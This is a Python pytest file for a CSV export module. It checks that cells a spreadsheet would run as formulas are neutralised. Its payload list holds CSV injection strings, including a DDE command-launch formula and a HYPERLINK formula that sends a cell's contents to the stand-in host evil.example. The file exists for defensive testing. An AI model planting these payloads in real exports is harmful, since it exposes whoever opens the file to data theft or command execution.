"""CSV that a spreadsheet opens: nothing in it runs, nothing in it is lost."""

import csv
import re
from datetime import UTC, datetime
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from teams.csv_export import BYTE_ORDER_MARK, csv_response, lines, safe

# https://owasp.org/www-community/attacks/CSV_Injection and what follows from it.
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "=1+1\";=1+1",
    '"=1+1',
    "'=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\x0b=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "DDE(\"cmd\");=1+1",
    "harmless\n=1+1",
    "harmless\r\n  @SUM(A1)",
    "harmless\t+1",
    "harmless;;  \"=1+1",
    "-9",
]  # fmt: skip
DANGEROUS = re.compile(r"^[\s\"\u200b\ufeff\x00-\x1f]*[=+\-@＝＋－＠]|^[\t\r\n]")
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def written(rows):
    return b"".join(lines(["a", "b"], rows)).decode()


def read(text, delimiter=","):
    return list(csv.reader(StringIO(text.removeprefix(BYTE_ORDER_MARK), newline=""), delimiter=delimiter))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_begins_with_what_a_spreadsheet_runs(payload):
    cells = read(written([[payload, "x"]]))[1]
    assert len(cells) == 2
    assert not DANGEROUS.match(cells[0])


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("separator", [";", "\t"])
def test_nor_where_the_spreadsheet_splits_at_another_sign(payload, separator):
    """As German Excel reads it: quotes that do not begin a cell hold nothing together."""
    text = written([["x", payload], ["y", "z"]]).removeprefix(BYTE_ORDER_MARK)
    for cell in re.split(f"[{separator}\r\n]", text):
        assert not re.match(r"[\s\"]*[=+@\-]", cell), cell


@given(st.text(alphabet="=+-@;\t\r\n \"',ab＝\u200b", max_size=12))
def test_whatever_is_typed_is_harmless_and_differs_by_apostrophes_only(text):
    made = safe(text)
    assert not DANGEROUS.match(made)
    assert not any(
        re.match(r"[ \"'\u200b]*[=+@\-＝]", cell) and "'" not in cell for cell in re.split(r"[;\t\r\n]", made)
    )
    assert made.replace("'", "") == text.replace("'", "")
    assert read(written([[text, "b"]]))[1:] == [[made, "b"]]


@pytest.mark.parametrize(
    "text",
    ["train model", "a=b", "1-2", "mail@example.org", "Müller, Käthe", 'say "hi"', "two\nlines", "a; b"],
)
def test_harmless_text_is_left_alone(text):
    assert read(written([[text, ""]]))[1] == [text, ""]


@pytest.mark.parametrize(
    ("value", "expected"),
    [(None, ""), (-9, "-9"), (0, "0"), (1.5, "1.5"), (-0.25, "-0.25"), (True, "yes"), (False, "no"),
     (datetime(2026, 2, 1, 12, 30, tzinfo=UTC), "2026-02-01T12:30:00Z")],
)  # fmt: skip
def test_numbers_stay_numbers_and_moments_are_utc(value, expected):
    assert safe(value) == expected


def test_the_header_is_guarded_too():
    assert b"".join(lines(["=x"], [])).decode() == BYTE_ORDER_MARK + "'=x\r\n"


def test_rows_are_read_as_they_are_sent():
    taken = []

    def rows():
        for number in range(5000):
            taken.append(number)
            yield [number, "x"]

    pieces = lines(["a", "b"], rows())
    next(pieces)
    assert len(taken) <= 500
    assert sum(piece.count(b"\r\n") for piece in pieces) == 4500


def test_the_answer_is_a_download_that_nobody_keeps():
    response = csv_response("jobs.csv", ["a"], [])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="jobs.csv"'
    assert response["Cache-Control"] == "private, no-store"
    assert response.getvalue().startswith("\ufeff".encode())
